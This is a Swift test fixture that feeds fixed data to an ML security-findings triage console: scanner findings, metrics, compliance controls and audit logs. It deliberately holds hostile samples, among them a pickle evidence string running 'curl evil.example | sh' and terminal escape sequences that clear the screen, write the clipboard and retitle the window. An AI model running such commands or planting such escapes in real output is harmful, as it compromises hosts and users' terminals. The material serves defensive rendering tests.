import ConsoleUI
import Findings

/// A console state with every view's data filled from fixed values (no store, no clock), so the
/// golden screens are the same on every machine.
enum Fixture {
    static let now: Int64 = 1_795_000_000  // 2026-11-19 09:46 UTC

    /// Types `:LINE` and Enter; the effects of the Enter.
    static func command(_ state: inout AppState, _ line: String) -> [Effect] {
        _ = Reducer.reduce(&state, .key(.character(":")))
        for ch in line { _ = Reducer.reduce(&state, .key(.character(ch))) }
        return Reducer.reduce(&state, .key(.enter))
    }

    static func items(_ count: Int, offset: Int = 0) -> [FindingRow] {
        (0..<count).map { i in
            let index = i + offset
            return FindingRow(
                id: Int64(100_000 - index), fingerprint: Fingerprint(bytes: [UInt8(index % 256)]),
                tool: index % 2 == 0 ? "modelscan" : index % 4 == 1 ? "detect-secrets" : "hand-written",
                ruleID: index % 2 == 0 ? "posix.system" : index % 4 == 1 ? "Secret Keyword" : "team.rules.python.pickle-load-untrusted-input",
                title: index == 1 ? "Unsafe operator in 模型 file \u{1B}[2J\u{202E}evil" : "Unsafe operator posix.system in a model file",
                severity: Severity(rawValue: 4 - index % 5) ?? .info, threat: index % 2 == 0 ? .malwareDistribution : .dataLoss,
                state: index % 7 == 3 ? .inTriage : index % 11 == 5 ? .falsePositive : index % 13 == 6 ? .notAffected : .new,
                model: "fraud-v\(index % 3)",
                // Long paths with line numbers: the number must survive any width.
                location: index % 2 == 0
                    ? Location(path: "models/fraud-v\(index % 3).pkl", startLine: index + 1)
                    : Location(path: "services/fraud-detector/pipelines/training/feature_store.py", startLine: index * 37 + 1),
                slaDue: now + Int64((index % 9) - 2) * 86_400)
        }
    }

    /// Rule groups: a hostile message, a group with closed findings only, counts in the thousands.
    static func groups() -> FindingGroups {
        let groups = [
            FindingGroup(
                key: .rule(ruleRef: 1, messageID: 1), tool: "modelscan", ruleID: "posix.system",
                label: "Use of unsafe operator 'system' from module 'posix'", states: [.new: 1_204, .inTriage: 3, .falsePositive: 17],
                worst: .critical),
            FindingGroup(
                key: .rule(ruleRef: 2, messageID: 2), tool: "detect-secrets", ruleID: "Secret Keyword",
                label: "Secret Keyword in notebooks/explore.ipynb \u{1B}]52;c;ZXZpbA==\u{07}(cell 3)", states: [.new: 12], worst: .high),
            FindingGroup(
                key: .rule(ruleRef: 3, messageID: 3), tool: "hand-written", ruleID: "team.rules.python.pickle-load-untrusted-input",
                label: "pickle.load on data from the request", states: [.new: 2, .exploitable: 1, .resolved: 40], worst: .medium),
            FindingGroup(
                key: .rule(ruleRef: 4, messageID: 4), tool: "checkov", ruleID: "CKV_K8S_23", label: "Minimize the admission of root containers",
                states: [.notAffected: 5], worst: .high),
        ]
        return FindingGroups(grouping: .rule, groups: groups, total: 312)
    }

    /// Twelve weeks of triage: a busy week, a late month, an old backlog.
    static func metrics() -> TriageMetrics {
        let first = TriageMetrics.weekStart(now) - 11 * 604_800
        let opened = [3, 5, 2, 40, 12, 8, 0, 1, 7, 3, 1_204, 9]
        let closed = [0, 2, 4, 10, 30, 9, 1, 0, 2, 6, 15, 300]
        return TriageMetrics(
            weeks: (0..<12).map { TriageMetrics.Week(start: first + Int64($0) * 604_800, opened: opened[$0], closed: closed[$0]) },
            timeToFix: [
                .critical: .init(count: 4, mean: 2.5 * 86_400, p90: 6 * 86_400), .high: .init(count: 31, mean: 12.25 * 86_400, p90: 29 * 86_400),
                .low: .init(count: 2, mean: 5 * 3_600, p90: 7 * 3_600),
            ],
            months: [
                .init(month: "2026-09", closed: 20, onTime: 19), .init(month: "2026-10", closed: 44, onTime: 30),
                .init(month: "2026-11", closed: 9, onTime: 9),
            ],
            backlog: [.week: [.critical: 2, .high: 11], .month: [.high: 4, .medium: 1_204], .older: [.low: 31]])
    }

    static func matrix() -> (MatrixSummary, LifecycleSummary) {
        var summary = MatrixSummary()
        var lifecycle = LifecycleSummary()
        let cells: [(Threat, Severity, Int, String?)] = [
            (.malwareDistribution, .critical, 12, "deploy"), (.malwareDistribution, .high, 4, "develop"),
            (.dataLoss, .high, 13, nil), (.dataLoss, .low, 3, "monitor"), (.misconfiguration, .medium, 1_204, nil),
            (.modelDenialOfService, .medium, 5, "deploy"), (.unintendedSystemInteraction, .high, 17, "deploy"),
            (.promptSelfReplication, .info, 123_456, "design"), (.unclassified, .low, 1, nil),
            // Counts in the millions: the header still shows the store, the open total and ingest.
            (.dataPoisoning, .medium, 1_204_311, "develop"), (.ipInfringement, .low, 2_311_007, nil),
        ]
        for (threat, severity, count, stage) in cells {
            summary.add(threat: threat, severity: severity, state: .new, count: count)
            lifecycle.add(target: threat.target, stage: stage, severity: severity, count: count)
        }
        summary.add(threat: .misconfiguration, severity: .low, state: .resolved, count: 40)
        return (summary, lifecycle)
    }

    static func models() -> [ModelRisk] {
        let unassigned: [Int64: Int] = [1: 21, 2: 5, 0: 16]
        return [
            ModelRisk(
                id: 1, name: "fraud-detector", version: "2.3.0", owner: "risk-ml", stage: "deploy", criticality: 2, source: "config",
                open: [.critical: 3, .high: 5, .medium: 2, .low: 14, .info: 3], slaBreaches: 2, trend: [10, 20, 30, 28, 40, 62, 62]),
            // Red-team findings weighted by attack-success rate: the weights line says so.
            ModelRisk(
                id: 2, name: "support-bot", owner: "cx-platform", stage: "monitor", source: "cyclonedx",
                open: [.high: 4, .low: 1], weighted: [.high: 1.25, .low: 0.5], trend: [30, 25, 21]),
            ModelRisk(id: 3, name: "fraud-transactions", kind: "dataset", source: "cyclonedx"),
            ModelRisk(id: 0, name: "(no model)", kind: "", open: [.medium: 7, .low: 9]),
        ].map { model in
            var model = model
            model.unassigned = unassigned[model.id] ?? 0
            return model
        }
    }

    static func breakdown() -> ModelBreakdown {
        var matrix = MatrixSummary()
        matrix.add(threat: .malwareDistribution, severity: .critical, state: .new, count: 3)
        matrix.add(threat: .dataLoss, severity: .high, state: .new, count: 5)
        matrix.add(threat: .misconfiguration, severity: .medium, state: .new, count: 2)
        matrix.add(threat: .misconfiguration, severity: .low, state: .resolved, count: 1)
        return ModelBreakdown(
            byTarget: [
                GroupCounts(key: "Infrastructure", open: [.critical: 3, .high: 1_204, .medium: 2, .low: 14, .info: 3]),
                GroupCounts(key: "Data", open: [.high: 5]),
            ],
            byTool: [
                GroupCounts(key: "modelscan", open: [.critical: 3]), GroupCounts(key: "detect-secrets", open: [.high: 5]),
                GroupCounts(key: "checkov", open: [.medium: 2]),
            ],
            matrix: matrix,
            card: [CardFact("task", "classification"), CardFact("architecture", "gradient-boosted trees"), CardFact("metrics", "AUC 0.94")],
            lineage: ["trained on fraud-transactions-2026q3 2026q3"])
    }

    static func detail(for item: FindingRow) -> FindingDetail {
        var taxonomy = TaxonomyIDs()
        taxonomy.atlas = ["AML.T0010.003", "AML.T0011.000"]
        taxonomy.owaspML = ["ML06"]
        taxonomy.cwe = ["CWE-502"]
        var row = item
        row.fingerprint = Fingerprint(bytes: [0x9f, 0x2c, 0x4e, 0x1a, 0x0b, 0x7d, 0x3c, 0x5e, 0x8f, 0x6a, 0x2b, 0x4c, 0x1d, 0x3e, 0x5f, 0x7a])
        row.message = "The model file calls posix.system when it is loaded.\nAnyone who can replace the file runs code on the serving host."
        row.score = 9.8
        row.taxonomy = taxonomy
        row.firstSeen = now - 5 * 86_400
        row.lastSeen = now - 3_600
        row.version = 2
        return FindingDetail(
            row: row, artifact: "models/fraud-v0.pkl", evidence: "GLOBAL posix system\nREDUCE ('curl evil.example | sh',)",
            mappingWhy: "modelscan rule posix.* -> Infrastructure / Malware distribution (bundled mapping.json: unsafe operators in model files)",
            events: [
                AuditEntry(id: 7, findingID: item.id, at: now - 5 * 86_400, actor: "ci-bot", kind: "created", from: nil, to: "new", reason: nil),
                AuditEntry(
                    id: 9, findingID: item.id, at: now - 86_400, actor: "alice (ssh 10.0.0.7)", kind: "state", from: "new",
                    to: "in_triage", reason: "looking at the pickle opcodes"),
            ])
    }

    static func ingest() -> IngestSnapshot {
        IngestSnapshot(
            scans: [
                ScanSummary(
                    id: 3, tool: "garak", format: "garak", sourcePath: "/srv/inbox/done/garak.report.jsonl", ingestedAt: now - 60,
                    actor: "mlsoc", total: 42, new: 3, unchanged: 38, reopened: 1, closed: 2, warnings: 0),
                ScanSummary(
                    id: 2, tool: "pip-audit", format: "pip-audit", sourcePath: "/srv/inbox/done/pip-audit.json", ingestedAt: now - 600,
                    actor: "mlsoc", total: 0, new: 0, unchanged: 0, reopened: 0, closed: 0, warnings: 4),
                // Four reports that differ only at the end of their names.
                ScanSummary(
                    id: 7, tool: "hand-written", format: "jsonl", sourcePath: "/srv/inbox/done/fraud-detector-2026-11-18-v1.json",
                    ingestedAt: now - 1_800, actor: "mlsoc", total: 123_456, new: 1_204, unchanged: 122_000, reopened: 12, closed: 240,
                    warnings: 0),
                ScanSummary(
                    id: 6, tool: "hand-written", format: "jsonl", sourcePath: "/srv/inbox/done/fraud-detector-2026-11-18-v2.json",
                    ingestedAt: now - 1_900, actor: "mlsoc", total: 12, new: 0, unchanged: 12, reopened: 0, closed: 0, warnings: 0),
                ScanSummary(
                    id: 5, tool: "detect-secrets", format: "detect-secrets",
                    sourcePath: "/srv/inbox/done/fraud-detector-2026-11-18-v3.json", ingestedAt: now - 2_000, actor: "mlsoc", total: 3,
                    new: 3, unchanged: 0, reopened: 0, closed: 0, warnings: 0),
                ScanSummary(
                    id: 4, tool: "detect-secrets", format: "detect-secrets",
                    sourcePath: "/srv/inbox/done/fraud-detector-2026-11-18-v4.json", ingestedAt: now - 2_100, actor: "mlsoc", total: 3,
                    new: 0, unchanged: 3, reopened: 0, closed: 0, warnings: 0),
                ScanSummary(
                    id: 1, tool: "bandit", format: "sarif", sourcePath: "reports/bandit.sarif", ingestedAt: now - 7_200,
                    actor: "alice", total: 17, new: 17, unchanged: 0, reopened: 0, closed: 0, warnings: 0),
            ],
            warnings: [ScanWarningLine(scanID: 2, message: "pip-audit audited none of 4 dependencies: the report is not a clean result")],
            quarantine: [
                QuarantinedFile(
                    name: "truncated.sarif", reason: "malformed: unexpected end of input at line 612, byte 20000",
                    modified: now - 300)
            ],
            queued: 2, inboxes: ["/srv/inbox"], workers: 2)
    }

    static func audit() -> [AuditEntry] {
        (0..<30).map { (i: Int) -> AuditEntry in
            let disappeared = i % 4 == 0
            let judged = i % 4 == 2
            let actor = i % 3 == 0 ? "alice" : judged ? "imported-from-vex" : "mlsoc"
            let at: Int64 = now - Int64(i) * 3_600
            return AuditEntry(
                id: Int64(500 - i), findingID: Int64(100_000 - i), at: at, actor: actor,
                kind: disappeared ? "disappeared" : judged ? "state" : "created", from: disappeared || judged ? "new" : nil,
                to: disappeared ? "resolved" : judged ? (i % 8 == 2 ? "not_affected" : "false_positive") : "new",
                reason: disappeared
                    ? "not in the newer report of its scope" : judged ? "vendor statement: the vulnerable code is not in the execute path" : nil,
                tool: "modelscan", ruleID: "posix.system")
        }
    }

    /// Three projects and the empty `default`, as the Projects list reads them (name order); one
    /// name carries an OSC title sequence, as a hostile report could make it.
    static func projects() -> [ProjectSummary] {
        let unassigned = [2: 40, 3: 19, 4: 0]
        return [
            ProjectSummary(id: 1, name: "default"),
            ProjectSummary(
                id: 2, name: "fraud-detection", owner: "risk-ml", criticality: 2,
                repository: "https://git.example.invalid/risk/fraud", open: [.critical: 4, .high: 30, .medium: 12],
                weighted: [.critical: 4, .high: 30, .medium: 12], scans: 14, lastScan: now - 3_600),
            ProjectSummary(
                id: 3, name: "model-zoo", owner: "ml-platform", open: [.critical: 17, .low: 2],
                weighted: [.critical: 17, .low: 2], scans: 9, lastScan: now - 7_200),
            ProjectSummary(
                id: 4, name: "support-bot\u{1B}]0;owned\u{07}", owner: "cx", criticality: 3, open: [.high: 3],
                weighted: [.high: 0.75], scans: 3, lastScan: now - 86_400),
        ].map { project in
            var project = project
            project.unassigned = unassigned[Int(project.id)] ?? 0
            return project
        }
    }

    /// A pack of five controls over four models, with every status somewhere; one model name is hostile.
    static func compliance() -> ComplianceResult {
        let pack = CompliancePack(
            name: "owasp-llm-2025", title: "OWASP Top 10 for LLM Applications", version: "2025", source: "OWASP GenAI", windowDays: 30,
            controls: [
                ComplianceControl(
                    id: "LLM01", title: "Prompt injection is tested and resisted", clause: "LLM01:2025 Prompt Injection", kinds: ["model"],
                    threats: [.unintendedSystemInteraction], ids: ["LLM01"], testedBy: ["garak", "promptfoo"]),
                ComplianceControl(
                    id: "LLM02", title: "No secrets or personal data leak", clause: "LLM02:2025 Sensitive Information Disclosure",
                    threats: [.dataLoss], testedBy: ["garak", "detect-secrets"]),
                ComplianceControl(
                    id: "LLM03", title: "Model files come from a checked supply chain", clause: "LLM03:2025 Supply Chain",
                    threats: [.malwareDistribution], testedBy: ["modelscan"]),
                ComplianceControl(
                    id: "LLM10", title: "Consumption is bounded", clause: "LLM10:2025 Unbounded Consumption", kinds: ["model"],
                    threats: [.modelDenialOfService], testedBy: ["promptfoo"]),
                ComplianceControl(id: "LLM11", title: "The model in service is scanned again", clause: "internal", process: .rescan),
            ])
        let facts = ComplianceFacts(
            models: [
                .init(id: 1, name: "fraud-detector", version: "2.3.0", stage: "deploy", projectID: 2, project: "fraud-detection"),
                .init(id: 2, name: "support-bot\u{1B}]0;owned\u{07}", stage: "monitor", projectID: 3, project: "bots"),
                .init(id: 3, name: "fraud-transactions", kind: "dataset", projectID: 2, project: "fraud-detection"),
                .init(id: 4, name: "sentiment-bert", stage: "develop", projectID: 4, project: "nlp"),
            ],
            findings: [
                .init(modelID: 1, threat: .malwareDistribution, ids: ["AML.T0011.000"], open: 3, accepted: 0, sample: [100_000, 99_998]),
                .init(modelID: 1, threat: .dataLoss, ids: ["CWE-798"], open: 0, accepted: 2, sample: [99_990]),
                .init(modelID: 2, threat: .unintendedSystemInteraction, ids: ["LLM01"], open: 4, accepted: 0, sample: [99_950]),
            ],
            scans: [
                .init(
                    id: 7, tool: "garak", toolVersion: "0.13.1", sha256: String(repeating: "ab", count: 32), ingestedAt: now - 3_600, projectID: 3,
                    targets: ["support-bot\u{1B}]0;owned\u{07}"], sourcePath: "reports/garak/support-bot.report.jsonl"),
                .init(
                    id: 6, tool: "modelscan", toolVersion: "0.8.8", sha256: String(repeating: "cd", count: 32), ingestedAt: now - 45 * 86_400,
                    projectID: 2, sourcePath: "reports/modelscan/models.json"),
                .init(
                    id: 5, tool: "promptfoo", sha256: String(repeating: "ef", count: 32), ingestedAt: now - 2 * 86_400, projectID: 3,
                    targets: ["support-bot\u{1B}]0;owned\u{07}"], sourcePath: "reports/promptfoo/support-bot.results.json"),
            ])
        return ComplianceEvaluator.evaluate(pack, facts: facts, now: now)
    }

    /// Every view's data loaded, as after a session's first reads.
    static func state(_ size: Size, view: ViewID = .matrix) -> AppState {
        var state = AppState(size: size, storePath: "/var/lib/mlsoc/findings.db")
        state.themeNames = ["dark", "light", "high-contrast", "solarized-dark", "mono"]
        state.compliance.packInfo = compliance().pack
        _ = Reducer.reduce(&state, .tick(now))
        let (matrix, lifecycle) = matrix()
        _ = Reducer.reduce(&state, .matrixLoaded(matrix, lifecycle))
        _ = Reducer.reduce(&state, .modelsLoaded(models()))
        _ = Reducer.reduce(&state, .ingestLoaded(ingest()))
        state.audit.generation = 1
        _ = Reducer.reduce(&state, .auditLoaded(audit(), append: false, generation: 1))
        state.findings.generation = 1
        _ = Reducer.reduce(&state, .findingsLoaded(items(60), append: false, generation: 1))
        state.view = view
        return state
    }
}
